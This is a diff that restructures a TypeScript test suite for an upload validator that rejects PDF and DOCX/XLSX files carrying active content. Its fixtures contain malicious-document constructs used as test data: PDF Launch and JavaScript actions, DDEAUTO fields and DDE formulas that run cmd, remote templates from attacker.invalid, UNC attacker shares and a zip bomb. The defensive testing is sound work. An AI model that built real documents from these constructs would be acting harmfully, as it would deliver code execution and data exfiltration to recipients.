@@ -606,44 +606,38 @@ const objStm = (
 /** `name` written with every letter hex-escaped, as a reader still reads it. */
 const hexName = (name: string) => `/${[...name].map((c) => `#${c.charCodeAt(0).toString(16)}`).join('')}`
 
-describe('validateUpload: PDF active content, every class', () => {
-  const upload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.pdf', mimetype: 'application/pdf' })
-  const refused = async (buffer: Buffer, named: string | RegExp, code: UploadRejectionCode = 'pdf-active-content') => {
-    const err = await expectRejected(upload(buffer), code)
-    expect(err.messageVi).toMatch(/^Tệp tải lên: /)
-    if (typeof named === 'string') expect(err.messageVi).toContain(named)
-    else expect(err.messageVi).toMatch(named)
-    return err
-  }
+const pdfUpload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.pdf', mimetype: 'application/pdf' })
+const refusedPdf = async (buffer: Buffer, named: string | RegExp, code: UploadRejectionCode = 'pdf-active-content') => {
+  const err = await expectRejected(pdfUpload(buffer), code)
+  expect(err.messageVi).toMatch(/^Tệp tải lên: /)
+  if (typeof named === 'string') expect(err.messageVi).toContain(named)
+  else expect(err.messageVi).toMatch(named)
+  return err
+}
 
-  const ACTIONS: [string, string][] = [
-    ['<< /S /JavaScript /JS (this.submitForm\\("https://x.invalid"\\)) >>', 'JavaScript'],
-    ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'Launch'],
-    ['<< /S /SubmitForm /F << /FS /URL /F (https://x.invalid/collect) >> /Flags 4 >>', 'SubmitForm'],
-    ['<< /S /ImportData /F (C:\\\\data.fdf) >>', 'ImportData'],
-    ['<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>', 'GoToR'],
-    ['<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>', 'GoToE'],
-    ['<< /S /Rendition /R 7 0 R >>', 'Rendition'],
-  ]
-  for (const [action, named] of ACTIONS) {
-    it(`refuses a ${named} action as the open action, plain and hex-escaped`, async () => {
-      await refused(pdfWith('/OpenAction 6 0 R', [action]), named)
-      const escaped = action.replace(/\/S \/(\w+)/, (_, n: string) => `/S ${hexName(n)}`)
-      await refused(pdfWith('/OpenAction 6 0 R', [escaped]), named)
-    })
-  }
+const PDF_ACTIONS: [string, string][] = [
+  ['<< /S /JavaScript /JS (this.submitForm\\("https://x.invalid"\\)) >>', 'JavaScript'],
+  ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'Launch'],
+  ['<< /S /SubmitForm /F << /FS /URL /F (https://x.invalid/collect) >> /Flags 4 >>', 'SubmitForm'],
+  ['<< /S /ImportData /F (C:\\\\data.fdf) >>', 'ImportData'],
+  ['<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>', 'GoToR'],
+  ['<< /S /GoToE /T << /R /C /N (payload.pdf) >> >>', 'GoToE'],
+  ['<< /S /Rendition /R 7 0 R >>', 'Rendition'],
+]
 
+/** Automatic and clicked links, forms, attachments and media. */
+const pdfLinkAndFeatureTests = () => {
   it('refuses an automatic URI open (OpenAction and a page /AA), but not a clicked https link', async () => {
-    await refused(pdfWith('/OpenAction << /S /URI /URI (https://tracker.invalid/open) >>'), '/URI')
-    await refused(pdfWith('/AA << /WC << /S /URI /URI (https://x.invalid) >> >>'), '/URI')
-    await refused(
+    await refusedPdf(pdfWith('/OpenAction << /S /URI /URI (https://tracker.invalid/open) >>'), '/URI')
+    await refusedPdf(pdfWith('/AA << /WC << /S /URI /URI (https://x.invalid) >> >>'), '/URI')
+    await refusedPdf(
       pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.invalid) >> >>'),
       '/URI',
     )
     const link = pdfWithAnnots([
       '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://angiang.gov.vn/) >> >>',
     ])
-    await expect(validateUpload(upload(link))).resolves.toMatchObject({ kind: 'pdf' })
+    await expect(validateUpload(pdfUpload(link))).resolves.toMatchObject({ kind: 'pdf' })
   })
 
   it('refuses a clicked link to javascript:, file: or a UNC path', async () => {
@@ -653,7 +647,7 @@ describe('validateUpload: PDF active content, every class', () => {
       '(\\\\\\\\attacker\\\\share)',
       '<6A617661736372697074 3A616C6572742831 29>',
     ]) {
-      await refused(
+      await refusedPdf(
         pdfWithAnnots([`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI ${uri} >> >>`]),
         'liên kết không an toàn',
       )
@@ -661,30 +655,33 @@ describe('validateUpload: PDF active content, every class', () => {
   })
 
   it('refuses XFA forms, embedded files, file attachments, rich media and 3D', async () => {
-    await refused(
+    await refusedPdf(
       pdfWith('/AcroForm << /Fields [] /XFA 6 0 R >>', [
         streamObj('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>')),
       ]),
       'XFA',
     )
-    await refused(
+    await refusedPdf(
       pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
         '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
         streamObj('/Type /EmbeddedFile', Buffer.from('MZ\x90\x00')),
       ]),
       'tệp nhúng',
     )
-    await refused(
+    await refusedPdf(
       pdfWithAnnots(['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (setup.exe) >> >>']),
       'tệp đính kèm',
     )
-    await refused(pdfWithAnnots(['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']), 'RichMedia')
-    await refused(pdfWithAnnots(['<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>']), '3D')
+    await refusedPdf(pdfWithAnnots(['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']), 'RichMedia')
+    await refusedPdf(pdfWithAnnots(['<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>']), '3D')
   })
+}
 
+/** Actions hidden in object streams, updates and other objects; unreadable or nested ones. */
+const pdfHiddenActionTests = () => {
   it('finds actions in object streams: without /Type, with an array filter and a PNG predictor, through ASCIIHex', async () => {
     const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
-    await refused(pdfWith('/OpenAction 6 0 R', [objStm([js], 6, { dict: '' })]), 'JavaScript')
+    await refusedPdf(pdfWith('/OpenAction 6 0 R', [objStm([js], 6, { dict: '' })]), 'JavaScript')
     const png = (b: Buffer) => {
       const columns = 4
       const rows: Buffer[] = []
@@ -698,7 +695,7 @@ describe('validateUpload: PDF active content, every class', () => {
         )
       return deflateSync(Buffer.concat(rows))
     }
-    await refused(
+    await refusedPdf(
       pdfWith('/OpenAction 6 0 R', [
         objStm([js], 6, {
           encode: png,
@@ -707,7 +704,7 @@ describe('validateUpload: PDF active content, every class', () => {
       ]),
       'JavaScript',
     )
-    await refused(
+    await refusedPdf(
       pdfWith('', [
         objStm(['<< /S /Launch /F (x) >>'], 6, {
           encode: (b) => Buffer.from(`${deflateSync(b).toString('hex')}>`),
@@ -717,11 +714,11 @@ describe('validateUpload: PDF active content, every class', () => {
       'Launch',
     )
     // An automatic URI resolved through an object stream: the catalog points into it.
-    await refused(pdfWith('/OpenAction 6 0 R', [objStm(['<< /S /URI /URI (https://x.invalid) >>'], 6)]), '/URI')
+    await refusedPdf(pdfWith('/OpenAction 6 0 R', [objStm(['<< /S /URI /URI (https://x.invalid) >>'], 6)]), '/URI')
   })
 
   it('refuses object streams it cannot read: an unknown filter, an encrypted file, corrupt data', async () => {
-    await refused(
+    await refusedPdf(
       pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => b, filter: '/Filter /LZWDecode' })]),
       'không kiểm tra được',
       'uninspectable',
@@ -730,8 +727,8 @@ describe('validateUpload: PDF active content, every class', () => {
       pdfWith('', [objStm(['<< /Type /Foo >>'], 6)]),
       Buffer.from('trailer\n<< /Size 8 /Root 1 0 R /Encrypt << /Filter /Standard /V 2 >> >>\n', 'latin1'),
     ])
-    await refused(encrypted, 'không kiểm tra được', 'uninspectable')
-    await refused(
+    await refusedPdf(encrypted, 'không kiểm tra được', 'uninspectable')
+    await refusedPdf(
       pdfWith('', [objStm(['<< /Type /Foo >>'], 6, { encode: (b) => Buffer.concat([Buffer.from([0x78, 0x9c]), b]) })]),
       'không kiểm tra được',
       'uninspectable',
@@ -741,7 +738,7 @@ describe('validateUpload: PDF active content, every class', () => {
   it('finds an action added by an incremental update', async () => {
     const base = makePlainPdf()
     const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 10 /Root 1 0 R /Prev 0 >>\nstartxref\n${base.length}\n%%EOF\n`
-    await refused(Buffer.concat([base, Buffer.from(update, 'latin1')]), 'JavaScript')
+    await refusedPdf(Buffer.concat([base, Buffer.from(update, 'latin1')]), 'JavaScript')
   })
 
   it('finds an object hidden inside another object’s stream data or string, and headers split by comments or long spaces', async () => {
@@ -750,13 +747,13 @@ describe('validateUpload: PDF active content, every class', () => {
       '',
       Buffer.from('9 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj', 'latin1'),
     )
-    await refused(pdfWith('/OpenAction 9 0 R', [hiddenInStream]), 'JavaScript')
-    await refused(pdfWith('/OpenAction 9 0 R', ['<< /Title (9 0 obj << /S /Launch /F (x) >> endobj) >>']), 'Launch')
-    await refused(
+    await refusedPdf(pdfWith('/OpenAction 9 0 R', [hiddenInStream]), 'JavaScript')
+    await refusedPdf(pdfWith('/OpenAction 9 0 R', ['<< /Title (9 0 obj << /S /Launch /F (x) >> endobj) >>']), 'Launch')
+    await refusedPdf(
       pdfWith('/OpenAction 9 0 R', [`<< /Type /Foo >>\nendobj\n9 %c\n0 % more\nobj << /S /ImportData /F (x) >>`]),
       'ImportData',
     )
-    await refused(
+    await refusedPdf(
       pdfWith('/OpenAction 9 0 R', [
         `<< /Type /Foo >>\nendobj\n9${' '.repeat(5000)}0${'\n'.repeat(5000)}obj << /S /SubmitForm /F (x) >>`,
       ]),
@@ -767,30 +764,51 @@ describe('validateUpload: PDF active content, every class', () => {
   it('refuses pathological nesting quickly', async () => {
     const deep = pdfWith('', [`${'['.repeat(10_000)}${']'.repeat(10_000)}`])
     const t0 = performance.now()
-    await refused(deep, 'không kiểm tra được', 'uninspectable')
+    await refusedPdf(deep, 'không kiểm tra được', 'uninspectable')
     expect(performance.now() - t0).toBeLessThan(1000)
   })
+}
 
+/** Ordinary PDFs still pass. */
+const pdfOrdinaryTests = () => {
   it('accepts ordinary PDFs: the demo documents, a destination open action, a clicked https/mailto link, an image that happens to hold "/JS"', async () => {
     await expect(
-      validateUpload(upload(makeDemoPdf(['Quyết định số 12/QĐ-UBND', 'Về việc công bố thủ tục hành chính (bản thử)']))),
+      validateUpload(
+        pdfUpload(makeDemoPdf(['Quyết định số 12/QĐ-UBND', 'Về việc công bố thủ tục hành chính (bản thử)'])),
+      ),
     ).resolves.toMatchObject({ kind: 'pdf' })
     await expect(
-      validateUpload(upload(pdfWith('/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines'))),
+      validateUpload(pdfUpload(pdfWith('/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines'))),
     ).resolves.toMatchObject({ kind: 'pdf' })
-    await expect(validateUpload(upload(pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')))).resolves.toMatchObject({
+    await expect(
+      validateUpload(pdfUpload(pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))),
+    ).resolves.toMatchObject({
       kind: 'pdf',
     })
     const links = pdfWithAnnots([
       '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (mailto:vanphong@angiang.gov.vn) >> >>',
       '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>',
     ])
-    await expect(validateUpload(upload(links))).resolves.toMatchObject({ kind: 'pdf' })
+    await expect(validateUpload(pdfUpload(links))).resolves.toMatchObject({ kind: 'pdf' })
     const harmlessObjStm = objStm(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 6, {
       filter: '/Filter [/FlateDecode] /DecodeParms [null]',
     })
-    await expect(validateUpload(upload(pdfWith('', [harmlessObjStm])))).resolves.toMatchObject({ kind: 'pdf' })
+    await expect(validateUpload(pdfUpload(pdfWith('', [harmlessObjStm])))).resolves.toMatchObject({ kind: 'pdf' })
   })
+}
+
+describe('validateUpload: PDF active content, every class', () => {
+  for (const [action, named] of PDF_ACTIONS) {
+    it(`refuses a ${named} action as the open action, plain and hex-escaped`, async () => {
+      await refusedPdf(pdfWith('/OpenAction 6 0 R', [action]), named)
+      const escaped = action.replace(/\/S \/(\w+)/, (_, n: string) => `/S ${hexName(n)}`)
+      await refusedPdf(pdfWith('/OpenAction 6 0 R', [escaped]), named)
+    })
+  }
+
+  pdfLinkAndFeatureTests()
+  pdfHiddenActionTests()
+  pdfOrdinaryTests()
 })
 
 const REL = (id: string, type: string, target: string, external = false) =>
@@ -804,25 +822,34 @@ const field = (...instrs: string[]) =>
 const sheet = (cells: string) =>
   `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`
 
-describe('validateUpload: Office active content, every class', () => {
-  const docx = (buffer: Buffer) => ({ buffer, filename: 'van-ban.docx', mimetype: ALLOWED_UPLOADS.docx.mimeType })
-  const xlsx = (buffer: Buffer) => ({ buffer, filename: 'bang.xlsx', mimetype: ALLOWED_UPLOADS.xlsx.mimeType })
-  const refused = async (input: UploadInput, named: string, code: UploadRejectionCode = 'office-active-content') => {
-    const err = await expectRejected(input, code)
-    expect(err.messageVi).toMatch(/^Tệp tải lên: (tệp (DOCX|XLSX) chứa|không kiểm tra được)/)
-    expect(err.messageVi).toContain(named)
-    return err
-  }
+const docxUpload = (buffer: Buffer) => ({ buffer, filename: 'van-ban.docx', mimetype: ALLOWED_UPLOADS.docx.mimeType })
+const xlsxUpload = (buffer: Buffer) => ({ buffer, filename: 'bang.xlsx', mimetype: ALLOWED_UPLOADS.xlsx.mimeType })
+const refusedOffice = async (
+  input: UploadInput,
+  named: string,
+  code: UploadRejectionCode = 'office-active-content',
+) => {
+  const err = await expectRejected(input, code)
+  expect(err.messageVi).toMatch(/^Tệp tải lên: (tệp (DOCX|XLSX) chứa|không kiểm tra được)/)
+  expect(err.messageVi).toContain(named)
+  return err
+}
 
+/** Macros, however they are named. */
+const officeMacroTests = () => {
   it('refuses macros however they are named: vbaProject, a macro-enabled content type, percent-encoded names, Excel 4.0 sheets', async () => {
-    await refused(docx(makeDocx({ 'word/vbaProject.bin': 'VBA' }, { deflate: true })), 'macro', 'office-macros')
-    await refused(docx(makeDocx({ 'word/v%62aProject.bin': 'VBA' })), 'macro', 'office-macros')
+    await refusedOffice(
+      docxUpload(makeDocx({ 'word/vbaProject.bin': 'VBA' }, { deflate: true })),
+      'macro',
+      'office-macros',
+    )
+    await refusedOffice(docxUpload(makeDocx({ 'word/v%62aProject.bin': 'VBA' })), 'macro', 'office-macros')
     const macroType = makeDocx({
       '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
     })
-    await refused(docx(macroType), 'macro', 'office-macros')
-    await refused(
-      docx(
+    await refusedOffice(docxUpload(macroType), 'macro', 'office-macros')
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/document.xml.rels': rels(
             `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="hidden.dat"/>`,
@@ -832,12 +859,19 @@ describe('validateUpload: Office active content, every class', () => {
       'macro',
       'office-macros',
     )
-    await refused(xlsx(makeXlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' })), 'macro', 'office-macros')
+    await refusedOffice(
+      xlsxUpload(makeXlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' })),
+      'macro',
+      'office-macros',
+    )
   })
+}
 
+/** External templates and other external loads. */
+const officeExternalLoadTests = () => {
   it('refuses an external template (attachedTemplate, also with an odd TargetMode case) and other external loads', async () => {
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/settings.xml.rels': rels(
             REL('rId1', 'attachedTemplate', 'https://attacker.invalid/t.dotm', true),
@@ -846,8 +880,8 @@ describe('validateUpload: Office active content, every class', () => {
       ),
       'mẫu (template)',
     )
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/settings.xml.rels': rels(
             REL('rId1', 'attachedTemplate', 'file://attacker.invalid/share/t.dotm').replace(
@@ -859,16 +893,16 @@ describe('validateUpload: Office active content, every class', () => {
       ),
       'mẫu (template)',
     )
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', '\\\\attacker\\share\\t.dotm', true)),
         }),
       ),
       'mẫu (template)',
     )
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', 'file:///C://attacker/t.dotm', true)),
         }),
@@ -879,62 +913,65 @@ describe('validateUpload: Office active content, every class', () => {
     for (const local of ['file:///C:\\Users\\vanthu\\Templates\\Mau-cong-van.dotx', 'D:\\Mau\\cong-van.dotx']) {
       await expect(
         validateUpload(
-          docx(makeDocx({ 'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', local, true)) })),
+          docxUpload(makeDocx({ 'word/_rels/settings.xml.rels': rels(REL('rId1', 'attachedTemplate', local, true)) })),
         ),
       ).resolves.toMatchObject({ kind: 'docx' })
     }
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/webSettings.xml.rels': rels(REL('rId1', 'frame', 'https://attacker.invalid/f.docx', true)),
         }),
       ),
       'frame',
     )
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/document.xml.rels': rels(REL('rId1', 'subDocument', '\\\\attacker\\share\\s.docx', true)),
         }),
       ),
       'subDocument',
     )
-    await refused(
-      docx(
+    await refusedOffice(
+      docxUpload(
         makeDocx({
           'word/_rels/document.xml.rels': rels(REL('rId1', 'image', 'https://tracker.invalid/pixel.png', true)),
         }),
       ),
       'bên ngoài (image)',
     )
-    await refused(
-      docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'aFChunk', 'chunk.rtf')) })),
+    await refusedOffice(
+      docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId1', 'aFChunk', 'chunk.rtf')) })),
       'altChunk',
     )
   })
+}
 
+/** Embedded objects, external links, DDE and hyperlinks. */
+const officeEmbeddedAndLinkTests = () => {
   it('refuses OLE objects, ActiveX and embedded programs in DOCX and XLSX', async () => {
-    await refused(
-      docx(makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) })),
+    await refusedOffice(
+      docxUpload(makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) })),
       'đối tượng nhúng',
     )
-    await refused(docx(makeDocx({ 'word/embeddings/setup.exe': 'MZ' })), 'đối tượng nhúng')
-    await refused(docx(makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })), 'ActiveX')
-    await refused(
-      docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId5', 'oleObject', 'embeddings/x.dat')) })),
+    await refusedOffice(docxUpload(makeDocx({ 'word/embeddings/setup.exe': 'MZ' })), 'đối tượng nhúng')
+    await refusedOffice(docxUpload(makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })), 'ActiveX')
+    await refusedOffice(
+      docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId5', 'oleObject', 'embeddings/x.dat')) })),
       'OLE',
     )
-    await refused(xlsx(makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE' })), 'đối tượng nhúng')
-    await refused(xlsx(makeXlsx({ 'xl/activeX/activeX1.bin': 'AX' })), 'ActiveX')
-    await refused(
-      xlsx(makeXlsx({ 'xl/_rels/workbook.xml.rels': rels(REL('rId3', 'control', '../activeX/a.xml')) })),
+    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE' })), 'đối tượng nhúng')
+    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/activeX/activeX1.bin': 'AX' })), 'ActiveX')
+    await refusedOffice(
+      xlsxUpload(makeXlsx({ 'xl/_rels/workbook.xml.rels': rels(REL('rId3', 'control', '../activeX/a.xml')) })),
       'ActiveX',
     )
   })
 
   it('refuses external workbook links, data connections, web queries and customUI in XLSX', async () => {
-    await refused(
-      xlsx(
+    await refusedOffice(
+      xlsxUpload(
         makeXlsx({
           'xl/externalLinks/externalLink1.xml':
             '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
@@ -942,36 +979,36 @@ describe('validateUpload: Office active content, every class', () => {
       ),
       'bên ngoài',
     )
-    await refused(xlsx(makeXlsx({ 'xl/connections.xml': '<connections/>' })), 'kết nối dữ liệu')
-    await refused(xlsx(makeXlsx({ 'xl/queryTables/queryTable1.xml': '<queryTable/>' })), 'truy vấn')
-    await refused(xlsx(makeXlsx({ 'customUI/customUI14.xml': '<customUI onLoad="Boom"/>' })), 'customUI')
+    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/connections.xml': '<connections/>' })), 'kết nối dữ liệu')
+    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/queryTables/queryTable1.xml': '<queryTable/>' })), 'truy vấn')
+    await refusedOffice(xlsxUpload(makeXlsx({ 'customUI/customUI14.xml': '<customUI onLoad="Boom"/>' })), 'customUI')
   })
 
   it('refuses DDE fields: DDEAUTO, split over runs, in fldSimple, behind entities, CDATA and UTF-16', async () => {
-    const ddeDoc = (xml: string | Buffer) => docx(makeDocx({ 'word/document.xml': xml }))
-    await refused(ddeDoc(wordBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))), 'DDE')
-    await refused(ddeDoc(wordBody(field(' D', 'DE', 'AUTO "c:\\\\x.exe" '))), 'DDE')
-    await refused(
+    const ddeDoc = (xml: string | Buffer) => docxUpload(makeDocx({ 'word/document.xml': xml }))
+    await refusedOffice(ddeDoc(wordBody(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))), 'DDE')
+    await refusedOffice(ddeDoc(wordBody(field(' D', 'DE', 'AUTO "c:\\\\x.exe" '))), 'DDE')
+    await refusedOffice(
       ddeDoc(wordBody(`<w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`)),
       'DDE',
     )
-    await refused(ddeDoc(wordBody(field('&#68;&#x44;E cmd "/c calc"'))), 'DDE')
-    await refused(ddeDoc(wordBody(field('<![CDATA[ddeauto]]> cmd'))), 'DDE')
+    await refusedOffice(ddeDoc(wordBody(field('&#68;&#x44;E cmd "/c calc"'))), 'DDE')
+    await refusedOffice(ddeDoc(wordBody(field('<![CDATA[ddeauto]]> cmd'))), 'DDE')
     const utf16 = Buffer.concat([
       Buffer.from([0xff, 0xfe]),
       Buffer.from(wordBody(field('DDEAUTO cmd')).replace('UTF-8', 'UTF-16'), 'utf16le'),
     ])
-    await refused(ddeDoc(utf16), 'DDE')
-    await refused(docx(makeDocx({ 'word/header1.xml': wordBody(field('DDE cmd')) })), 'DDE')
+    await refusedOffice(ddeDoc(utf16), 'DDE')
+    await refusedOffice(docxUpload(makeDocx({ 'word/header1.xml': wordBody(field('DDE cmd')) })), 'DDE')
   })
 
   it('refuses DDE formulas in XLSX cells and defined names', async () => {
-    await refused(
-      xlsx(makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) })),
+    await refusedOffice(
+      xlsxUpload(makeXlsx({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) })),
       'DDE',
     )
-    await refused(
-      xlsx(
+    await refusedOffice(
+      xlsxUpload(
         makeXlsx({
           'xl/worksheets/sheet1.xml': sheet(
             `<c r="A1"><f>=MSEXCEL&#124;'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f></c>`,
@@ -981,7 +1018,7 @@ describe('validateUpload: Office active content, every class', () => {
       'DDE',
     )
     const workbook = `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">cmd|'/c calc'!A1</definedName></definedNames></workbook>`
-    await refused(xlsx(makeXlsx({ 'xl/workbook.xml': workbook })), 'DDE')
+    await refusedOffice(xlsxUpload(makeXlsx({ 'xl/workbook.xml': workbook })), 'DDE')
   })
 
   it('refuses hyperlinks to file:, javascript: or UNC paths', async () => {
@@ -991,37 +1028,42 @@ describe('validateUpload: Office active content, every class', () => {
       '\\\\attacker\\share\\x',
       ' &#106;avascript:alert(1)',
     ]) {
-      await refused(
-        docx(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId7', 'hyperlink', target, true)) })),
+      await refusedOffice(
+        docxUpload(makeDocx({ 'word/_rels/document.xml.rels': rels(REL('rId7', 'hyperlink', target, true)) })),
         'liên kết không an toàn',
       )
     }
   })
+}
 
+/** Embedded packages, unreadable documents, and ordinary ones. */
+const officeNestedAndOrdinaryTests = () => {
   it('checks embedded packages too (a chart’s workbook carrying macros), one level deep', async () => {
-    await refused(
-      docx(makeDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx({ 'xl/vbaProject.bin': 'VBA' }) })),
+    await refusedOffice(
+      docxUpload(
+        makeDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': makeXlsx({ 'xl/vbaProject.bin': 'VBA' }) }),
+      ),
       'trong một tài liệu nhúng',
       'office-macros',
     )
     const nested = makeXlsx({ 'xl/embeddings/inner.docx': makeDocx() })
-    await refused(docx(makeDocx({ 'word/embeddings/outer.xlsx': nested })), 'đối tượng nhúng')
+    await refusedOffice(docxUpload(makeDocx({ 'word/embeddings/outer.xlsx': nested })), 'đối tượng nhúng')
   })
 
   it('refuses what it cannot read: a legacy .doc/.xls (OLE) renamed .docx, duplicate parts, a bomb part', async () => {
     const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)])
-    const err = await expectRejected(docx(ole), 'office-legacy')
+    const err = await expectRejected(docxUpload(ole), 'office-legacy')
     expect(err.messageVi).toMatch(/^Tệp tải lên: tệp Office định dạng cũ \(\.doc, \.xls\)/)
-    await expectRejected(xlsx(ole), 'office-legacy')
+    await expectRejected(xlsxUpload(ole), 'office-legacy')
     const dup = makeZip({
       '[Content_Types].xml': '<Types/>',
       'word/document.xml': wordBody(''),
       'word/Document.xml': wordBody(field('DDEAUTO x')),
     })
-    await refused(docx(dup), 'cùng tên', 'uninspectable')
+    await refusedOffice(docxUpload(dup), 'cùng tên', 'uninspectable')
     const bomb = makeDocx({ 'word/document.xml': Buffer.alloc(130 * 1024 * 1024, 0x20) }, { deflate: true })
     expect(bomb.length).toBeLessThan(1024 * 1024)
-    await refused(docx(bomb), 'không đọc được', 'uninspectable')
+    await refusedOffice(docxUpload(bomb), 'không đọc được', 'uninspectable')
   })
 
   it('accepts ordinary documents: hyperlinks, a HYPERLINK field, a chart’s workbook, formulas with "|" inside strings, printer settings', async () => {
@@ -1044,13 +1086,20 @@ describe('validateUpload: Office active content, every class', () => {
       },
       { deflate: true },
     )
-    await expect(validateUpload(docx(ordinary))).resolves.toMatchObject({ kind: 'docx' })
+    await expect(validateUpload(docxUpload(ordinary))).resolves.toMatchObject({ kind: 'docx' })
     const formulas = makeXlsx({
       'xl/worksheets/sheet1.xml': sheet(
         `<c r="A1"><f>SUM(B1:B3)</f></c><c r="A2"><f>CONCAT("a|b","c")</f></c><c r="A3"><f>'Thu|Chi'!A1</f></c>`,
       ),
       'xl/printerSettings/printerSettings1.bin': 'P',
     })
-    await expect(validateUpload(xlsx(formulas))).resolves.toMatchObject({ kind: 'xlsx' })
+    await expect(validateUpload(xlsxUpload(formulas))).resolves.toMatchObject({ kind: 'xlsx' })
   })
+}
+
+describe('validateUpload: Office active content, every class', () => {
+  officeMacroTests()
+  officeExternalLoadTests()
+  officeEmbeddedAndLinkTests()
+  officeNestedAndOrdinaryTests()
 })
